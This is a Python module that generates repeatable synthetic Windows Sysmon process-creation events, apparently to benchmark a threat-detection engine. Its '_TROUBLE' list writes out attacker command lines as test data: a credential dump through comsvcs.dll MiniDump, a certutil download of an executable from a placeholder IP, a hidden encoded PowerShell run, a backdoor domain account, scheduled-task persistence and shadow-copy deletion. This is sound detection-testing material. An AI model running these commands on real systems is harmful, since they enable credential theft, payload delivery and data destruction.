"""Made-up process creations for benchmarks: the same ones for the same numbers, every time."""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from enum import StrEnum

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from tocsin.model.event import EventBatch
from tocsin.model.lane import Lane

LANE = Lane(
    connector="bench",
    shape="process_creation",
    product="windows",
    categories=("process_creation",),
    services=("sysmon",),
)


class Everyday(StrEnum):
    """What process creations are like."""

    STRUCTURED = "structured"
    DISTINCT = "distinct"
    SILENT = "silent"
    MATCHING = "matching"
    CORRELATED = "correlated"


_WINDOWS = "C:\\Windows\\System32"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"
_EVERYDAY = (
    (f"{_WINDOWS}\\svchost.exe", "-k netsvcs -p -s {service}", f"{_WINDOWS}\\services.exe"),
    (f"{_WINDOWS}\\svchost.exe", "-k LocalServiceNetworkRestricted -p -s {service}", f"{_WINDOWS}\\services.exe"),
    (f"{_WINDOWS}\\taskhostw.exe", "{service}", f"{_WINDOWS}\\svchost.exe"),
    (f"{_WINDOWS}\\backgroundTaskHost.exe", "-ServerName:App.{service}", f"{_WINDOWS}\\svchost.exe"),
    (f"{_WINDOWS}\\RuntimeBroker.exe", "-Embedding", f"{_WINDOWS}\\svchost.exe"),
    (f"{_WINDOWS}\\conhost.exe", "0xffffffff -ForceV1", "C:\\Program Files\\Git\\cmd\\git.exe"),
    (f"{_WINDOWS}\\SearchProtocolHost.exe", "Global\\UsGthrFltPipe{number}_ Global\\UsGthrCtrlFltPipe{number}", f"{_WINDOWS}\\SearchIndexer.exe"),
    (f"{_WINDOWS}\\dllhost.exe", "/Processid:{{{service}}}", f"{_WINDOWS}\\svchost.exe"),
    ("C:\\Windows\\explorer.exe", "/factory,{service}", f"{_WINDOWS}\\userinit.exe"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "--type=renderer --lang=en-US --renderer-client-id={number}", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
    ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", "-contentproc -childID {number} -isForBrowser", "C:\\Program Files\\Mozilla Firefox\\firefox.exe"),
    (f"{_OFFICE}\\WINWORD.EXE", '/n "C:\\Users\\{user}\\Documents\\{service}.docx"', "C:\\Windows\\explorer.exe"),
    (f"{_OFFICE}\\EXCEL.EXE", '"C:\\Users\\{user}\\Documents\\{service} {number}.xlsx"', "C:\\Windows\\explorer.exe"),
    (f"{_OFFICE}\\OUTLOOK.EXE", "/recycle", "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "fetch --prune origin {service}", "C:\\Program Files\\Microsoft VS Code\\Code.exe"),
    ("C:\\Program Files\\7-Zip\\7zFM.exe", '"C:\\Users\\{user}\\Downloads\\{service}.zip"', "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\Windows Defender\\MpCmdRun.exe", "SignatureUpdate -ScheduleJob -ShowHttp {number}", f"{_WINDOWS}\\svchost.exe"),
    (f"{_WINDOWS}\\notepad.exe", "C:\\Users\\{user}\\Desktop\\{service}.txt", "C:\\Windows\\explorer.exe"),
)  # fmt: skip
_TROUBLE = (
    (f"{_WINDOWS}\\whoami.exe", "/all", f"{_WINDOWS}\\cmd.exe"),
    (f"{_WINDOWS}\\net.exe", "user {user} Summer{number}! /add /domain", f"{_WINDOWS}\\cmd.exe"),
    (f"{_WINDOWS}\\WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -enc aQBlAHgAIAAoAG4AZQB3AC0A{number}", f"{_OFFICE}\\WINWORD.EXE"),
    (f"{_WINDOWS}\\rundll32.exe", "C:\\Windows\\System32\\comsvcs.dll, MiniDump {number} C:\\Users\\Public\\l.dmp full", f"{_WINDOWS}\\cmd.exe"),
    (f"{_WINDOWS}\\certutil.exe", "-urlcache -split -f http://203.0.113.{number}/a.txt a.exe", f"{_WINDOWS}\\cmd.exe"),
    (f"{_WINDOWS}\\schtasks.exe", "/create /sc minute /tn {service} /tr C:\\Users\\Public\\{service}.exe", f"{_WINDOWS}\\cmd.exe"),
    (f"{_WINDOWS}\\vssadmin.exe", "delete shadows /all /quiet", f"{_WINDOWS}\\cmd.exe"),
    (f"{_WINDOWS}\\nltest.exe", "/domain_trusts /all_trusts", f"{_WINDOWS}\\cmd.exe"),
)  # fmt: skip
_TROUBLE_SHARE = {Everyday.SILENT: 0.0, Everyday.MATCHING: 0.5, Everyday.CORRELATED: 0.1}
_USUAL_TROUBLE_SHARE = 0.002
_BEGIN = datetime(2026, 1, 5, tzinfo=UTC)
_SERVICES = 40
_PEOPLE = 60
_HOSTS = 40


@dataclass(frozen=True, slots=True)
class _Pool:
    """Processes to draw from, a column a field, and how likely each is."""

    columns: dict[str, pa.Array]
    weights: np.ndarray[tuple[int], np.dtype[np.float64]]


def process_batches(kind: Everyday, events: int, batch_rows: int) -> Iterator[EventBatch]:
    """``events`` process creations in batches of at most ``batch_rows``."""
    draw = np.random.Generator(np.random.PCG64(20))
    pool = _pool(kind, draw)
    for start in range(0, events, batch_rows):
        yield _batch(kind, pool, draw, start, min(batch_rows, events - start))


def _pool(kind: Everyday, draw: np.random.Generator) -> _Pool:
    rows: list[dict[str, str]] = []
    weights: list[float] = []
    trouble = _TROUBLE_SHARE.get(kind, _USUAL_TROUBLE_SHARE)
    groups = ((_EVERYDAY, 1.0 - trouble), (_TROUBLE, trouble))
    for programs, share in groups:
        if not share:
            continue
        made = [_process(program, draw) for program in programs for _ in range(_SERVICES)]
        rows.extend(made)
        weights.extend([share / len(made)] * len(made))
    columns = {name: pa.array([row[name] for row in rows]) for name in rows[0]}
    return _Pool(columns, np.array(weights))


def _process(program: tuple[str, str, str], draw: np.random.Generator) -> dict[str, str]:
    image, arguments, parent = program
    person = f"user{int(draw.integers(_PEOPLE)):02d}"
    filled = arguments.format(
        service=f"Task{int(draw.integers(_SERVICES)):02d}",
        number=int(draw.integers(2, 250)),
        user=person,
    )
    name = image.rpartition("\\")[2]
    digest = f"{abs(hash_text(image)):016X}"
    return {
        "Image": image,
        "OriginalFileName": name,
        "CommandLine": f'"{image}" {filled}',
        "ParentImage": parent,
        "ParentCommandLine": parent,
        "User": f"EXAMPLE\\{person}",
        "IntegrityLevel": "Medium" if draw.random() < 0.7 else "System",
        "Description": f"{name.partition('.')[0]} program",
        "Product": "Example Operating System",
        "Company": "Example Corporation",
        "FileVersion": "10.0.19041.1",
        "CurrentDirectory": f"C:\\Users\\{person}\\",
        "Hashes": f"MD5={digest * 2},SHA256={digest * 4},IMPHASH={digest[::-1] * 2}",
    }


def hash_text(text: str) -> int:
    """A number that depends on the text alone (FNV-1a, 64 bits)."""
    value = 0xCBF29CE484222325
    for byte in text.encode():
        value = ((value ^ byte) * 0x100000001B3) & 0xFFFFFFFFFFFFFFFF
    return value


def _batch(
    kind: Everyday, pool: _Pool, draw: np.random.Generator, start: int, rows: int
) -> EventBatch:
    chosen = pa.array(draw.choice(len(pool.weights), rows, p=pool.weights / pool.weights.sum()))
    columns = {name: values.take(chosen) for name, values in pool.columns.items()}
    numbers = pa.array([f"{number:08x}" for number in range(start, start + rows)])
    if kind is Everyday.DISTINCT:
        salt = pa.array([f"{value:016x}" for value in draw.integers(0, 2**62, rows).tolist()])
        columns["CommandLine"] = pc.binary_join_element_wise(
            columns["CommandLine"], " --instance ", salt, " --sequence=", numbers, ""
        )
    columns |= {
        "EventID": pa.array(np.ones(rows, np.int64)),
        "ProcessId": pa.array(draw.integers(4, 60_000, rows)),
        "ParentProcessId": pa.array(draw.integers(4, 60_000, rows)),
        "ProcessGuid": pc.binary_join_element_wise("{b1e9", numbers, "}", "-"),
        "Computer": pa.array([f"host{n:02d}" for n in draw.integers(0, _HOSTS, rows).tolist()]),
        "LogonId": pa.array([f"0x{n:x}" for n in draw.integers(999, 5000, rows).tolist()]),
    }
    return batch_of_columns(LANE, columns, start)


def batch_of_columns(lane: Lane, columns: dict[str, pa.Array], start: int) -> EventBatch:
    """A batch of the given native fields, one event each 10 ms; ``start`` is the first's number."""
    rows = len(next(iter(columns.values())))
    micros = np.int64(_BEGIN.timestamp() * 1e6) + np.arange(start, start + rows) * 10_000
    times = pa.array(micros, pa.timestamp("us", "UTC"))
    return EventBatch(
        lane=lane,
        sources=pa.array(["bench"] * rows, pa.string()),
        tenant="default",
        event_ids=pa.array([_event_id(number) for number in range(start, start + rows)]),
        times=times,
        ingested_at=times,
        native=pa.RecordBatch.from_pydict(columns),
        ocsf=pa.RecordBatch.from_pydict({"class_uid": pa.array(np.full(rows, 1007, np.int32))}),
        raw=pa.nulls(rows, pa.binary()),
    )


def _event_id(number: int) -> str:
    """A UUID of version 7, as events have: its time first, ascending with the number."""
    millis = int(_BEGIN.timestamp() * 1e3) + number * 10
    return f"{millis >> 16:08x}-{millis & 0xFFFF:04x}-7{number & 0xFFF:03x}-8000-{number:012x}"
